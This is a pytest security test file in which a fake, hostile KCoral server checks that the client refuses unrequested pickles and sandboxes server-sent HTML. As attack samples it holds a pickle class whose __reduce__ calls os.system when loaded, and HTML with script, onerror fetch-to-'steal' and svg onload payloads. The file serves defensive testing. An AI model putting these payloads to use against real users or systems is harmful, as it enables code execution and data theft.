"""A malicious KCoral server against the client: it may answer anything, and gets nothing.

The attacker here is the server (or whoever answers on its URL): a fake KCoral server on
loopback answers ``/health``, ``/v1/info`` and ``POST /execute`` with crafted bodies. The
client must unpickle only what the call asked for in pickle format, under the names it asked
for, bind only the ``-o`` names into the kernel, and show HTML the server authored only in a
sandboxed iframe that runs no script. A pickle that would run ``touch MARKER`` when loaded
proves whether anything was unpickled.
"""

from __future__ import annotations

import contextlib
import html
import json
import os
import shlex
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
import tornado.web
from IPython.utils.capture import capture_output
from kcoral_shell import kcoral_shell
from nbclient import NotebookClient
from stand_in_http import serving_app

import kcoral
from kcoral import Client, ProtocolError
from kcoral.protocol.multipart import encode_multipart
from kcoral.protocol.pickle_envelope import dump_envelope
from kcoral.protocol.values import encode_value

pytestmark = pytest.mark.timeout(300)

HOSTILE_HTML = (
    "<script>document.title='owned'</script>"
    "<img src=x onerror=\"fetch('http://127.0.0.1:1/steal')\"><b>table</b>"
)


class _Boom:
    """Unpickling this runs ``touch marker`` (what the reproduced attack did with os.system)."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch {shlex.quote(str(self.marker))}",))


def booby_trapped(marker: Path) -> bytes:
    """A well-formed KCoral pickle envelope (this side's versions) that runs code if loaded."""
    return dump_envelope(_Boom(marker))


def encode_completed(results: dict[str, Any]) -> tuple[str, bytes]:
    """A ``COMPLETED`` answer carrying ``results`` (PROTOCOL §7.2, §7.5)."""
    nodes: dict[str, Any] = {}
    parts: list[Any] = []
    for key, value in results.items():
        nodes[key], value_parts = encode_value(value, len(parts))
        parts.extend(value_parts)
    document = {
        "status": "COMPLETED",
        "request_id": str(uuid.uuid4()),
        **dict.fromkeys(("queue_ms", "elapsed_ms", "lease_wait_ms", "lease_held_ms"), 0.0),
        "results": nodes,
        "stdout": "",
        "stderr": "",
        "stdout_truncated": False,
        "stderr_truncated": False,
    }
    text = json.dumps(document).encode()
    if not parts:
        return "application/json", text
    content_type, chunks, _ = encode_multipart(
        [("result", "application/json", text)]
        + [(f"return:{i}", "application/octet-stream", bytes(p)) for i, p in enumerate(parts)]
    )
    return content_type, b"".join(bytes(chunk) for chunk in chunks)


class MaliciousServer:
    """A fake KCoral server on loopback; each ``/execute`` gets the next crafted answer."""

    def __init__(self) -> None:
        self._answers: list[dict[str, Any]] = [{}]
        self.features: list[str] = []  # ["jobs"]: cells go through the jobs API
        self.stdout = ""  # streamed as a job's stdout event
        self.url = ""
        self._serving = contextlib.ExitStack()

    def answer(self, *results: dict[str, Any]) -> None:
        """The ``results`` of the next answers, in order; the last one repeats."""
        self._answers = list(results)

    def _next_results(self) -> dict[str, Any]:
        return self._answers.pop(0) if len(self._answers) > 1 else self._answers[0]

    def __enter__(self) -> MaliciousServer:
        self.url = self._serving.enter_context(serving_app(self._app))
        return self

    def __exit__(self, *exc: object) -> None:
        self._serving.close()

    def _app(self) -> tornado.web.Application:
        owner = self

        class Json(tornado.web.RequestHandler):
            def initialize(self, body: dict[str, Any]) -> None:
                self.body = body

            def get(self) -> None:
                self.set_header("Content-Type", "application/json")
                self.finish(json.dumps(self.body))

        class Execute(tornado.web.RequestHandler):
            def post(self) -> None:
                content_type, body = encode_completed(owner._next_results())
                self.set_header("Content-Type", content_type)
                self.finish(body)

            def get(self, _job_id: str) -> None:  # GET /v1/jobs/{id}/result
                self.post()

        class Submit(tornado.web.RequestHandler):
            def post(self) -> None:
                self.set_status(202)
                self.finish(
                    {"job_id": "job-1", "request_id": str(uuid.uuid4()), "status": "QUEUED"}
                )

        class Events(tornado.web.RequestHandler):
            def get(self, _job_id: str) -> None:
                self.set_header("Content-Type", "text/event-stream")
                stdout = json.dumps({"text": owner.stdout})
                finished = json.dumps({"phase": "finished", "status": "COMPLETED"})
                self.finish(
                    f"id: 1\nevent: stdout\ndata: {stdout}\n\n"
                    f"id: 2\nevent: phase\ndata: {finished}\n\n"
                )

        class State(tornado.web.RequestHandler):
            def get(self, job_id: str) -> None:
                self.finish({"job_id": job_id, "status": "COMPLETED", "worker_id": "<b>w</b>"})

        class Info(tornado.web.RequestHandler):
            def get(self) -> None:
                features = owner.features
                self.finish({"kcoral": kcoral.__version__, "features": features, "device": "cpu"})

        return tornado.web.Application(
            [
                (r"/health", Json, {"body": {"status": "ok", "gpu_count": 0}}),
                (r"/v1/info", Info),
                (r"/execute", Execute),
                (r"/v1/jobs", Submit),
                (r"/v1/jobs/([^/]+)/events", Events),
                (r"/v1/jobs/([^/]+)/result", Execute),
                (r"/v1/jobs/([^/]+)", State),
            ]
        )


@pytest.fixture
def malicious() -> Iterator[MaliciousServer]:
    with MaliciousServer() as server:
        yield server


@pytest.fixture
def shell(malicious: MaliciousServer, monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    """An in-process IPython shell whose ``%%kcoral`` cells go to the malicious server."""
    with kcoral_shell(malicious.url, monkeypatch, ("x", "y", "s", "evil", "_kcoral")) as ip:
        yield ip


def run(ip: Any, source: str) -> tuple[Any, Any]:
    with capture_output() as captured:
        result = ip.run_cell(source)
    return result, captured


def cell_record(**fields: Any) -> dict[str, Any]:
    return {"cell": {"outputs": {}, "has_value": False, **fields}}


# -------------------------------------------------------------------- %%kcoral cells


def test_a_malicious_server_pickle_answer_to_a_plain_cell_runs_nothing_in_a_real_kernel(
    malicious: MaliciousServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The reproduced attack, in a real kernel: a plain cell (no -i, no -o) answered with a
    pickled field; then a display whose HTML carries script."""
    marker = tmp_path / "pwned"
    monkeypatch.setenv("KCORAL_URL", malicious.url)
    monkeypatch.delenv("KCORAL_TOKEN", raising=False)
    notebook = nbformat.v4.new_notebook(
        cells=[
            nbformat.v4.new_code_cell("%load_ext kcoral_jupyter"),
            nbformat.v4.new_code_cell("%%kcoral\nx = 1\n"),
            nbformat.v4.new_code_cell("%%kcoral\nobject()\n"),
        ]
    )
    malicious.answer(
        cell_record(pickled=booby_trapped(marker)),  # the reproduced shape: one envelope
        cell_record(
            has_value=True,
            display={
                "text/plain": "<P>",
                "text/html": HOSTILE_HTML,
                "application/javascript": "alert(1)",
            },
        ),
    )
    NotebookClient(
        notebook,
        timeout=120,
        kernel_name="python3",
        allow_errors=True,
        resources={"metadata": {"path": tmp_path}},
    ).execute()
    assert not marker.exists(), "the kernel unpickled a server-supplied field"
    pickled_cell, display_cell = notebook.cells[1], notebook.cells[2]
    errors = [o for o in pickled_cell.outputs if o.output_type == "error"]
    assert errors and errors[0]["ename"] == "ProtocolError", pickled_cell.outputs
    assert "nothing was unpickled" in errors[0]["evalue"]
    shown = [o for o in display_cell.outputs if o.output_type == "display_data"]
    htmls = [o["data"]["text/html"] for o in shown if "text/html" in o["data"]]
    served = [h for h in htmls if "kcoral-server-html" in h]
    assert len(served) == 1, htmls
    assert_sandboxed(served[0])
    assert not any("application/javascript" in o["data"] for o in shown)


def assert_sandboxed(markup: str) -> None:
    """Only an iframe with ``sandbox=""`` whose srcdoc holds the escaped server HTML."""
    assert markup.startswith("<iframe ") and markup.endswith("</iframe>"), markup
    assert ' sandbox="" ' in markup
    assert "allow-scripts" not in markup and "allow-same-origin" not in markup
    assert "<script" not in markup and "<img" not in markup
    assert html.escape(HOSTILE_HTML, quote=True) in markup


@pytest.mark.parametrize("shape", ["one envelope", "per name"])
def test_a_malicious_server_pickle_answer_to_a_plain_cell_is_refused(
    shell: Any, malicious: MaliciousServer, tmp_path: Path, shape: str
) -> None:
    marker = tmp_path / "pwned"
    trap = booby_trapped(marker)
    malicious.answer(cell_record(pickled=trap if shape == "one envelope" else {"x": trap}))
    result, captured = run(shell, "%%kcoral\nx = 1\n")
    assert not marker.exists()
    assert isinstance(result.error_in_exec, ProtocolError)
    assert "nothing was unpickled" in str(result.error_in_exec)
    assert "x" not in shell.user_ns
    assert any(
        "refused the server's answer" in o.data.get("text/plain", "") for o in captured.outputs
    )


def test_a_malicious_server_pickle_answer_to_a_json_output_is_refused(
    shell: Any, malicious: MaliciousServer, tmp_path: Path
) -> None:
    marker = tmp_path / "pwned"
    malicious.answer(cell_record(pickled={"y": booby_trapped(marker)}))
    result, _ = run(shell, "%%kcoral -o y\ny = [1, 2]\n")
    assert not marker.exists()
    assert isinstance(result.error_in_exec, ProtocolError)
    assert "did not ask for in pickle format" in str(result.error_in_exec)
    assert "y" not in shell.user_ns


def test_a_malicious_server_cannot_unpickle_a_name_a_pickle_cell_did_not_ask_for(
    shell: Any, malicious: MaliciousServer, tmp_path: Path
) -> None:
    """The cell is sent with pickle (a set needs it) and asks for y: evil is refused before
    the y envelope, which is fine, is unpickled either."""
    marker = tmp_path / "pwned"
    shell.user_ns["s"] = {1, 2}
    malicious.answer(cell_record(pickled={"y": dump_envelope({3}), "evil": booby_trapped(marker)}))
    result, _ = run(shell, "%%kcoral -i s -o y\ny = s | {3}\n")
    assert not marker.exists()
    assert isinstance(result.error_in_exec, ProtocolError)
    assert "['evil'], which this call did not ask for" in str(result.error_in_exec)
    assert "y" not in shell.user_ns and "evil" not in shell.user_ns


def test_a_malicious_server_pickle_answer_through_the_jobs_api_is_refused(
    shell: Any, malicious: MaliciousServer, tmp_path: Path
) -> None:
    """The live path: stdout streams as text, the result is checked like a blocking one."""
    marker = tmp_path / "pwned"
    malicious.features = ["jobs"]
    malicious.stdout = HOSTILE_HTML
    malicious.answer(cell_record(outputs={"y": 1}, pickled={"z": booby_trapped(marker)}))
    result, captured = run(shell, "%%kcoral -o y\ny = 1\n")
    assert not marker.exists()
    assert isinstance(result.error_in_exec, ProtocolError)
    assert "y" not in shell.user_ns
    assert HOSTILE_HTML in captured.stdout  # a text stream, never markup
    assert not any("<script" in o.data.get("text/html", "") for o in captured.outputs)


def test_a_malicious_server_cannot_bind_names_the_cell_did_not_ask_for(
    shell: Any, malicious: MaliciousServer
) -> None:
    shell.user_ns["evil"] = "mine"
    malicious.answer(cell_record(outputs={"y": 1, "evil": "replaced"}))
    result, _ = run(shell, "%%kcoral -o y\ny = 1\n")
    assert isinstance(result.error_in_exec, ProtocolError)
    assert shell.user_ns["evil"] == "mine" and "y" not in shell.user_ns


def test_a_pickle_cell_still_gets_its_own_pickled_output(
    shell: Any, malicious: MaliciousServer
) -> None:
    """What the rule keeps working: the name asked for, sent with pickle, comes back."""
    shell.user_ns["s"] = {1, 2}
    malicious.answer(cell_record(pickled={"y": dump_envelope({1, 2, 3})}))
    result, _ = run(shell, "%%kcoral -i s -o y\ny = s | {3}\n")
    assert result.error_in_exec is None, result.error_in_exec
    assert shell.user_ns["y"] == {1, 2, 3}


def test_a_malicious_server_display_is_shown_only_in_a_sandboxed_iframe(
    shell: Any, malicious: MaliciousServer
) -> None:
    malicious.answer(
        cell_record(
            has_value=True,
            display={
                "text/plain": "<P>",
                "text/html": HOSTILE_HTML,
                "application/javascript": "alert(1)",
                "image/svg+xml": "<svg onload='alert(1)'/>",
                "text/markdown": "<script>alert(1)</script>",
            },
        )
    )
    result, captured = run(shell, "%%kcoral\nobject()\n")
    assert result.error_in_exec is None, result.error_in_exec
    bundles = [
        o.data for o in captured.outputs if "kcoral-server-html" in o.data.get("text/html", "")
    ]
    assert len(bundles) == 1
    assert set(bundles[0]) == {"text/plain", "text/html"}
    assert bundles[0]["text/plain"] == "<P>"
    assert_sandboxed(bundles[0]["text/html"])


# ------------------------------------------------------------------- remote functions


def double(x):
    return 2 * x


def test_a_malicious_server_pickle_answer_to_a_json_remote_function_is_never_unpickled(
    malicious: MaliciousServer, tmp_path: Path
) -> None:
    """JSON mode asked for no pickle: the envelope comes back as inert bytes."""
    marker = tmp_path / "pwned"
    trap = booby_trapped(marker)
    malicious.answer({"output": trap})
    with Client(malicious.url) as client:
        assert client.function()(double).remote(2) == trap
    assert not marker.exists()


def test_a_malicious_server_extra_pickles_for_a_pickle_remote_function_are_never_unpickled(
    malicious: MaliciousServer, tmp_path: Path
) -> None:
    marker = tmp_path / "pwned"
    malicious.answer({"output": dump_envelope(4), "extra": booby_trapped(marker)})
    with Client(malicious.url) as client:
        assert client.function(serialization="pickle")(double).remote(2) == 4
    assert not marker.exists()


def test_a_malicious_server_result_renders_escaped_in_our_own_html(
    malicious: MaliciousServer,
) -> None:
    """Strings the server chose (keys, stdout, tracebacks) are escaped in our markup."""
    malicious.answer({HOSTILE_HTML: HOSTILE_HTML, "b": HOSTILE_HTML.encode()})
    with Client(malicious.url) as client:
        program = kcoral.Program()
        program.return_(key="k", value=program.upload(kind="bytes", value=b"k", id="k"))
        result = client.execute(program)
    markup = result._repr_html_()
    assert "<script" not in markup and "<img src=x" not in markup
